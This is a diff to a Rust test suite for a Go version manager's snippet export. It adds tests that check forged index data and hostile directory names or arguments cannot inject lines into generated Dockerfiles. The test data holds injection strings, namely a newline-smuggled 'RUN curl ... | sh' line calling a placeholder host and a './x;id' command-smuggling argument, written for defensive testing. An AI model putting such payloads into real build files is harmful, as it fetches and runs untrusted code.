@@ -300,7 +300,7 @@ fn a_mirror_on_a_path_is_left_out_and_odd_values_are_refused() {
     assert_failure(
         &export(&m, &["github", "--add"]),
         2,
-        &["--add shapes a dockerfile, not a github snippet"],
+        &["--add does not apply to a github snippet"],
     );
     assert_failure(&export(&m, &["github", "--os", "linux"]), 2, &["--arch"]);
     assert_failure(
@@ -325,4 +325,86 @@ fn what_cannot_be_pinned_says_why() {
     let mut cmd = m.gov_cmd(["export", "github"]);
     let out = cmd.current_dir(&m.env.work).output().unwrap();
     assert_failure(&out, 1, &["no Go version selected"]);
+}
+
+#[test]
+fn a_forged_index_or_a_hostile_path_cannot_add_lines_to_a_snippet() {
+    use crate::common::server::Reply;
+    let m = project();
+    // A digest that carries Dockerfile lines.
+    let forged = serde_json::json!([{
+        "version": "go1.22.4", "stable": true,
+        "files": [{"filename": "go1.22.4.linux-amd64.tar.gz", "os": "linux", "arch": "amd64",
+                   "sha256": format!("{} https://x.invalid/a.tgz /tmp/x\nRUN curl https://x.invalid/p | sh\n#", "0".repeat(64)),
+                   "size": 1, "kind": "archive"}]
+    }]);
+    m.server.route(
+        "index.json",
+        Reply::Body(std::sync::Arc::new(forged.to_string().into_bytes())),
+    );
+    let out = export(
+        &m,
+        &["dockerfile", "--add", "--os", "linux", "--arch", "amd64"],
+    );
+    assert_failure(
+        &out,
+        1,
+        &[
+            "expected `go1.22.4.linux-amd64.tar.gz` and 64 hex digits",
+            "damaged or forged",
+        ],
+    );
+    assert_eq!(stdout(&out), "");
+
+    // The version file above, in a directory whose name holds a newline:
+    // named from here, escaped, on one comment line.
+    let m = Mirror::new(&["1.22.4"]);
+    let dir = "evil\nRUN curl https://x.invalid/p | sh\n#";
+    m.env.write(&format!("{dir}/.go-version"), "1.22\n");
+    m.env
+        .write(&format!("{dir}/go.mod"), "module example.com/hello\n");
+    m.env.write(&format!("{dir}/cmd/README"), "");
+    let out = m
+        .gov_cmd(["export", "dockerfile"])
+        .current_dir(m.env.work.join(dir).join("cmd"))
+        .output()
+        .unwrap();
+    assert_success(&out);
+    let text = stdout(&out);
+    assert!(
+        text.contains("(set by ../.go-version; not installed here"),
+        "{text}"
+    );
+    assert!(!text.lines().any(|l| l.starts_with("RUN curl")), "{text}");
+}
+
+#[test]
+fn dockerfiles_are_for_linux_and_the_add_form_names_its_platform() {
+    let m = project();
+    assert_failure(
+        &export(&m, &["dockerfile", "--os", "darwin", "--arch", "arm64"]),
+        2,
+        &["gov knows no container runner for darwin-arm64"],
+    );
+    let out = export(&m, &["dockerfile", "--add"]);
+    assert_success(&out);
+    let text = stdout(&out);
+    assert!(
+        text.contains("FROM --platform=linux/amd64 buildpack-deps:bookworm-scm AS build"),
+        "{text}"
+    );
+    assert!(
+        text.contains("FROM --platform=linux/amd64 scratch"),
+        "{text}"
+    );
+    assert_failure(
+        &export(&m, &["dockerfile", "--package", "./x;id"]),
+        2,
+        &["cannot go into a snippet"],
+    );
+    assert_failure(
+        &export(&m, &["gitlab", "--image", "*img"]),
+        2,
+        &["cannot go into a snippet"],
+    );
 }
